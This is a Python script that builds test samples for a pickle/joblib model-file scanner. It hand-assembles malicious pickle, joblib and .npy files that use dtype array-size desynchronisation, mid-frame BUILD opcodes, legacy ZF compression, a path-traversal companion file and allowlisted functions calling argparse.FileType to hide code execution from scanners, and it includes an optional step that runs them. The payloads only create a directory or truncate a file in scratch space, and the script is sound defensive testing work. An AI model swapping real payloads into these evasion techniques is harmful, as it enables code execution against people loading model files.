#!/usr/bin/env python3
"""Samples for issue 10 §4 (joblib array sizes) and §5 (allowlisted functions that call what
they are given), for tests/scan.rs.

usage: make_pickle_allow.py OUTDIR [--confirm]

Writes OUTDIR/<name> and OUTDIR/manifest.json:
  {name: {"expect": "malicious" | "clean" | "suspicious", "loader": ..., "why": ...}}
Malicious samples are assembled opcode by opcode; benign ones are written by the real libraries.
With --confirm every malicious sample is loaded by its real loader (joblib.load or pickle.load)
in a scratch directory of its own, and the manifest records whether the payload ran there
("confirmed"). The payloads only create a directory or truncate a file inside that scratch
directory.
"""
import json
import os
import pickle
import struct
import subprocess
import sys
import tempfile


def bu(s):
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def glob(m, n):
    return b"c" + m.encode() + b"\n" + n.encode() + b"\n"


def tup(*items):
    return b"(" + b"".join(items) + b"t"


def dtype(s, copy=True, state=None):
    d = glob("numpy", "dtype") + bu(s) + b"\x89" + (b"\x88" if copy else b"\x89") + b"\x87R"
    if state is not None:
        d += state + b"b"
    return d


def i32(v):
    return b"J" + struct.pack("<i", v)


def dstate(endian, names, fields, elsize, align, flags):
    """A version-3 dtype state tuple."""
    return tup(b"K\x03", bu(endian), b"N", names, fields, i32(elsize), i32(align), i32(flags))


# os.mkdir("PWNED") in the loader's working directory.
PAYLOAD = glob("os", "mkdir") + bu("PWNED") + b"\x85R"


def wrapper(fields):
    """NEWOBJ of joblib's NumpyArrayWrapper and the BUILD joblib reads the array after."""
    d = b"}("
    for k, v in fields:
        d += bu(k) + v
    return glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + d + b"ub"


def std_fields(dt, shape=b"K\x01\x85"):
    return [
        ("subclass", glob("numpy", "ndarray")),
        ("shape", shape),
        ("order", bu("C")),
        ("dtype", dt),
        ("allow_mmap", b"\x89"),
    ]


def swallow_nested(skip):
    """A nested pickle (what joblib unpickles for an object array) whose first `skip` bytes a
    reader that skips them as raw array data would leave behind, to then read a BINBYTES that
    swallows the payload."""
    pad = skip - 4
    assert pad >= 0 and pad % 2 == 0
    tail = b"0" + PAYLOAD + b"."
    s = b"B" + struct.pack("<I", len(tail))
    nested = b"\x80\x02" + b"N0" * (pad // 2) + b"\x8c" + bytes([len(s)]) + s + tail
    assert nested[skip : skip + 1] == b"B"
    return nested


def samples():
    out = {}
    # §4: V16 dtype whose BUILD adds an object field (flags 27 = has objects): joblib
    # unpickles the array, a 16-byte skip would read the rest as the outer stream.
    fields_ab = (
        b"}("
        + bu("a")
        + dtype("O8", state=dstate("|", b"N", b"N", -1, -1, 63))
        + b"K\x00\x86"
        + bu("b")
        + dtype("f8", state=dstate("<", b"N", b"N", -1, -1, 0))
        + b"K\x08\x86u"
    )
    v16 = dtype("V16", state=dstate("|", bu("a") + bu("b") + b"\x86", fields_ab, 16, 1, 27))
    out["joblib_v16_object_field.pkl"] = (
        b"\x80\x02" + wrapper(std_fields(v16)) + swallow_nested(16) + b".",
        "malicious",
        "joblib",
        "§4 V16 dtype + BUILD adding an object field: joblib unpickles the array bytes",
    )
    # §4: the same through a version-2 state (numpy recomputes the object flag from fields).
    v16_2 = dtype(
        "V16",
        state=tup(b"K\x02", bu("|"), b"N", bu("a") + bu("b") + b"\x86", fields_ab, i32(16), i32(1), i32(0)),
    )
    out["joblib_v16_object_field_v2.pkl"] = (
        b"\x80\x02" + wrapper(std_fields(v16_2)) + swallow_nested(16) + b".",
        "malicious",
        "joblib",
        "§4 version-2 dtype state: numpy derives has-object from the fields",
    )
    # §4: 'dtype' given twice in the wrapper state: __dict__.update keeps the last one.
    f = std_fields(dtype("i8"))
    f.insert(4, ("dtype", dtype("O8")))
    out["joblib_duplicate_dtype_key.pkl"] = (
        b"\x80\x02" + wrapper(f) + swallow_nested(8) + b".",
        "malicious",
        "joblib",
        "§4 duplicate 'dtype' attribute: joblib uses the last (object) one",
    )
    # §4: numpy.dtype('O8', align, False) is numpy's shared builtin object dtype, whose
    # __setstate__ does nothing: a BUILD clearing its flags leaves it an object dtype.
    out["joblib_builtin_dtype_state_ignored.pkl"] = (
        b"\x80\x02"
        + wrapper(std_fields(dtype("O8", copy=False, state=dstate("|", b"N", b"N", -1, -1, 0))))
        + swallow_nested(8)
        + b".",
        "malicious",
        "joblib",
        "§4 BUILD on a builtin dtype singleton is ignored by numpy",
    )
    # §4: the wrapper's BUILD in the middle of a frame: joblib reads the array from the file
    # after the frame and then goes on with the rest of the frame.
    body = wrapper(std_fields(dtype("u1"))) + PAYLOAD + b"0."
    out["joblib_build_mid_frame.pkl"] = (
        b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body + b"\x00",
        "malicious",
        "joblib",
        "§4 wrapper BUILD inside a frame (joblib reads the array from after the frame)",
    )
    # §4: what joblib skips as array data, pickle.load (and numpy.load) runs as opcodes.
    arr = PAYLOAD + b"0"
    body = b"\x80\x02" + wrapper(std_fields(dtype("u1"), shape=b"K" + bytes([len(arr)]) + b"\x85")) + arr + b"."
    out["joblib_array_bytes_as_opcodes.pkl"] = (
        body,
        "malicious",
        "pickle",
        "§4 joblib array bytes that a plain pickle.load executes",
    )
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (63 - len(header) % 64) + b"\n"
    out["joblib_array_bytes_as_opcodes.npy"] = (
        b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + body,
        "malicious",
        "numpy",
        "§4 the same inside an object .npy: numpy.load's pickle.load runs the array bytes",
    )
    # joblib < 0.10 'ZF' zlib file (joblib 1.x still loads it): scanned after decompression.
    import zlib

    raw = b"\x80\x02" + PAYLOAD + b"."
    out["joblib_zfile_payload.gz"] = (
        b"ZF" + hex(len(raw)).encode().ljust(19) + zlib.compress(raw),
        "malicious",
        "joblib",
        "joblib < 0.10 ZF-compressed pickle (was 'not a model')",
    )
    # joblib < 0.10 NDArrayWrapper: numpy.load(allow_pickle=True) of whatever path it names.
    out["joblib_companion_path.pkl"] = (
        b"\x80\x02"
        + glob("joblib.numpy_pickle", "NDArrayWrapper")
        + b")\x81}("
        + bu("filename")
        + bu("../companions/evil.npy")
        + bu("subclass")
        + glob("numpy", "ndarray")
        + bu("allow_mmap")
        + b"\x89ub.",
        "malicious",
        "joblib",
        "joblib < 0.10 NDArrayWrapper naming a companion file outside the directory",
    )
    # §5: argparse.FileType('w') handed to allowlisted functions that call their argument.
    ft = glob("argparse", "FileType") + bu("w") + b"\x85R"
    for ctor in ["__generator_ctor", "__randomstate_ctor"]:
        out[f"invoker_{ctor.strip('_')}_filetype.pkl"] = (
            b"\x80\x02" + glob("numpy.random._pickle", ctor) + bu("victim.txt") + ft + b"\x86R.",
            "malicious",
            "pickle",
            f"§5 numpy.random._pickle.{ctor} calls its bit_generator_ctor argument",
        )
    out["invoker_rebuild_from_type_v2_filetype.pkl"] = (
        b"\x80\x02"
        + glob("torch._tensor", "_rebuild_from_type_v2")
        + b"("
        + ft
        + glob("torch", "Tensor")
        + bu("victim.txt")
        + b"\x85}tR.",
        "malicious",
        "pickle-torch",
        "§5 torch._tensor._rebuild_from_type_v2 calls func(*args)",
    )
    out["invoker_defaultdict_filetype.pkl"] = (
        b"\x80\x02" + glob("collections", "defaultdict") + ft + b"\x85R.",
        "malicious",
        "none",
        "§5 defaultdict calls its factory on every missing key (after load)",
    )
    out["invoker_bit_generator_ctor_class.pkl"] = (
        b"\x80\x02" + glob("numpy.random._pickle", "__bit_generator_ctor") + glob("argparse", "FileType") + b"\x85R.",
        "malicious",
        "none",
        "§5 __bit_generator_ctor calls a class it is given",
    )
    return out


def benign(d):
    """Files the real libraries write: none may be flagged."""
    import collections

    import joblib
    import numpy as np

    res = {}
    structured = np.array([(1, "a"), (2, {"k": [1, 2]})], dtype=[("i", "<i8"), ("o", "O")])
    objs = np.array([1, "x", None, {"a": 1}], dtype=object)
    many = {
        "structured": structured,
        "objects": objs,
        "ints": np.arange(7),
        "datetimes": np.array(["2020-01-01", "2021-06-30"], dtype="M8[ns]"),
        "unicode": np.array(["ab", "cde"]),
        "subarray": np.zeros(3, dtype=[("x", "<f8", (2,)), ("y", "<i4")]),
        "matrix": np.matrix([[1, 2], [3, 4]]),
        "masked": np.ma.array([1, 2, 3], mask=[0, 1, 0]),
        "records": np.rec.array([(1, 2.0)], dtype=[("a", "<i4"), ("b", "<f8")]),
        "nested_objects": np.array([np.array([1, 2]), None], dtype=object),
    }
    for name, kw in [
        ("benign_joblib_structured.joblib", {}),
        ("benign_joblib_structured_z3.joblib", {"compress": 3}),
        ("benign_joblib_structured_xz.joblib", {"compress": ("xz", 3)}),
        ("benign_joblib_structured_p2.joblib", {"protocol": 2}),
    ]:
        joblib.dump(many, os.path.join(d, name), **kw)
        res[name] = ("clean", "joblib", "§4 benign joblib.dump of structured and object arrays")
    # Protocols 0/1 write the wrapper through copyreg._reconstructor (suspicious tier).
    for p in (0, 1):
        name = f"benign_joblib_structured_p{p}.joblib"
        joblib.dump(many, os.path.join(d, name), protocol=p)
        res[name] = ("suspicious", "joblib", "§4 benign joblib.dump, protocol 0/1")
    for name, obj in [
        ("benign_generator.pkl", np.random.default_rng(7)),
        ("benign_randomstate.pkl", np.random.RandomState(7)),
        ("benign_defaultdict.pkl", collections.defaultdict(list, {"a": [1]})),
        ("benign_numpy_subclasses.pkl", [many["matrix"], many["masked"], many["records"]]),
    ]:
        for p in (2, 4):
            n = name.replace(".pkl", f"_p{p}.pkl")
            with open(os.path.join(d, n), "wb") as fh:
                pickle.dump(obj, fh, protocol=p)
            res[n] = ("clean", "pickle", "§5 benign pickles of invokers")
    return res


def dtype_variants():
    """Benign joblib files whose array dtype is built (and BUILT) in every way numpy allows:
    the array region that follows is sized by real numpy (`pickle.loads` of the dtype), so a
    scanner that sizes it differently desynchronises and reports the rest. Returns
    {name: (bytes, numpy itemsize, numpy hasobject)}."""
    import numpy as np

    nested_obj = pickle.dumps(np.array([1, None], dtype=object), protocol=2)
    o8 = dtype("O8", state=dstate("|", b"N", b"N", -1, -1, 63))
    f8 = dtype("f8", state=dstate("<", b"N", b"N", -1, -1, 0))
    u5 = dtype("U5", state=dstate("<", b"N", b"N", 20, 4, 8))

    def fields(*fs):
        names = b"(" + b"".join(bu(n) for n, _, _ in fs) + b"t"
        d = b"}("
        for n, dt, off in fs:
            d += bu(n) + dt + b"K" + bytes([off]) + b"\x86"
        return names, d + b"u"

    def st(version, endian, names_fields, elsize, align, flags, n=8):
        names, flds = names_fields if names_fields else (b"N", b"N")
        items = [b"K" + bytes([version]), bu(endian), b"N", names, flds, i32(elsize), i32(align), i32(flags)]
        return tup(*items[:n])

    variants = {}
    for s_ in ["i8", "<f4", ">f8", "u1", "b1", "?", "c16", "f2", "O8", "O", "U3", "S4", "V12", "|S1", "l", "d"]:
        for copy in (True, False):
            variants[f"{s_}-{copy}"] = dtype(s_, copy=copy)
    # numpy's own reduce output for each, BUILT back.
    for s_ in ["i8", "O8", "U5", "S3", "V16", "c8"]:
        d = np.dtype(s_)
        _, args, state = d.__reduce__()
        sd = tup(b"K\x03", bu(state[1]), b"N", b"N", b"N", i32(state[5]), i32(state[6]), i32(state[7]))
        variants[f"{s_}-reduce"] = dtype(args[0], state=sd)
        variants[f"{s_}-reduce-nocopy"] = dtype(args[0], copy=False, state=sd)
    variants["M8-v4"] = dtype(
        "M8", state=tup(b"K\x04", bu("<"), b"N", b"N", b"N", i32(-1), i32(-1), i32(0), b"N" + b"(" + b"C\x02ns" + b"K\x01K\x01K\x01t" + b"\x86")
    )
    obj_b = fields(("a", o8, 0), ("b", f8, 8))
    for flags in (27, 0, 1, -127, -128, 16, 63):
        variants[f"V16-objfield-flags{flags}"] = dtype("V16", state=st(3, "|", obj_b, 16, 1, flags))
    for version in (2, 3, 4):
        variants[f"V16-objfield-v{version}"] = dtype("V16", state=st(version, "|", obj_b, 16, 1, 0))
    variants["V16-objfield-7items"] = dtype("V16", state=st(3, "|", obj_b, 16, 1, 0, n=7))
    variants["V20-ufield-v2"] = dtype("V20", state=st(2, "|", fields(("u", u5, 0)), 20, 4, 0))
    variants["V20-ufield-v3"] = dtype("V20", state=st(3, "|", fields(("u", u5, 0)), 20, 4, 0))
    variants["V8-f8field-v2"] = dtype("V8", state=st(2, "|", fields(("x", f8, 0)), 8, 1, 0))
    variants["f8-copy-objfield"] = dtype("f8", state=st(3, "<", fields(("a", o8, 0)), 40, 8, 1))
    variants["f8-nocopy-objfield"] = dtype("f8", copy=False, state=st(3, "<", fields(("a", o8, 0)), 40, 8, 1))
    variants["V24-resize"] = dtype("V8", state=st(3, "|", None, 24, 1, 0))
    inner = dtype("V16", state=st(3, "|", obj_b, 16, 1, 27))
    variants["V32-nested-v2"] = dtype("V32", state=st(2, "|", fields(("n", inner, 0)), 32, 1, 0))
    variants["V16-twice"] = dtype("V16", state=st(3, "|", obj_b, 16, 1, 27)) + st(3, "|", None, 12, 1, 0) + b"b"

    out = {}
    for i, (label, dt) in enumerate(sorted(variants.items())):
        try:
            real = pickle.loads(b"\x80\x02" + dt + b".")
            itemsize, hasobject = int(real.itemsize), bool(real.hasobject)
        except Exception:
            continue
        for align in (False, True):
            f = std_fields(dt, shape=b"K\x02\x85")
            if align:
                f.append(("numpy_array_alignment_bytes", b"K\x10"))
            body = b"\x80\x02" + wrapper(f)
            if hasobject:
                body += nested_obj
            else:
                if itemsize <= 0:
                    break
                if align:
                    body += b"\x03\xff\xff\xff"
                body += b"\x00" * (2 * itemsize)
            body += b"."
            out[f"dtype_{i:02d}_{label}{'_aligned' if align else ''}.pkl"] = (body, itemsize, hasobject)
    return out


CONFIRM = r"""
import json, os, pickle, sys, tempfile
jobs = json.loads(sys.argv[1])
out = {}
for path, loader in jobs:
    scratch = tempfile.mkdtemp()
    os.chdir(scratch)
    with open("victim.txt", "w") as fh:
        fh.write("precious")
    try:
        if loader == "joblib":
            import joblib
            joblib.load(path)
        elif loader == "numpy":
            import numpy
            numpy.load(path, allow_pickle=True)
        else:
            if loader == "pickle-torch":
                try:
                    import torch
                except ImportError:
                    out[path] = None
                    continue
            with open(path, "rb") as fh:
                pickle.load(fh)
    except Exception:
        pass
    out[path] = os.path.isdir("PWNED") or os.path.getsize("victim.txt") == 0
print(json.dumps(out))
"""


def confirm_all(jobs):
    """Load each (path, loader) with the real loader, each in a scratch directory of its own, in
    one helper process: {path: payload ran (None: loader not installed)}."""
    r = subprocess.run(
        [sys.executable, "-c", CONFIRM, json.dumps(jobs)],
        capture_output=True,
        timeout=300,
        cwd=tempfile.gettempdir(),
    )
    if r.returncode != 0:
        sys.exit("confirming payloads failed: " + r.stderr.decode(errors="replace"))
    return json.loads(r.stdout)


def main():
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    manifest = {}
    jobs = []
    for name, (data, expect, loader, why) in samples().items():
        p = os.path.join(out, name)
        with open(p, "wb") as fh:
            fh.write(data)
        manifest[name] = {"expect": expect, "loader": loader, "why": why}
        if loader != "none":
            jobs.append((os.path.abspath(p), loader))
    # The object .npy the companion-path sample points at (outside OUTDIR/).
    comp = os.path.join(out, "..", "companions")
    os.makedirs(comp, exist_ok=True)
    with open(os.path.join(comp, "evil.npy"), "wb") as fh:
        fh.write(samples()["joblib_array_bytes_as_opcodes.npy"][0])
    if "--confirm" in sys.argv:
        ran = confirm_all(jobs)
        for name, m in manifest.items():
            m["confirmed"] = ran.get(os.path.abspath(os.path.join(out, name)))
    for name, (data, itemsize, hasobject) in dtype_variants().items():
        with open(os.path.join(out, name), "wb") as fh:
            fh.write(data)
        manifest[name] = {
            "expect": "clean",
            "loader": "joblib",
            "why": f"§4 dtype variant: numpy item size {itemsize}, has objects {hasobject}",
        }
    for name, (expect, loader, why) in benign(out).items():
        manifest[name] = {"expect": expect, "loader": loader, "why": why}
    with open(os.path.join(out, "manifest.json"), "w") as fh:
        json.dump(manifest, fh, indent=1, sort_keys=True)


if __name__ == "__main__":
    main()
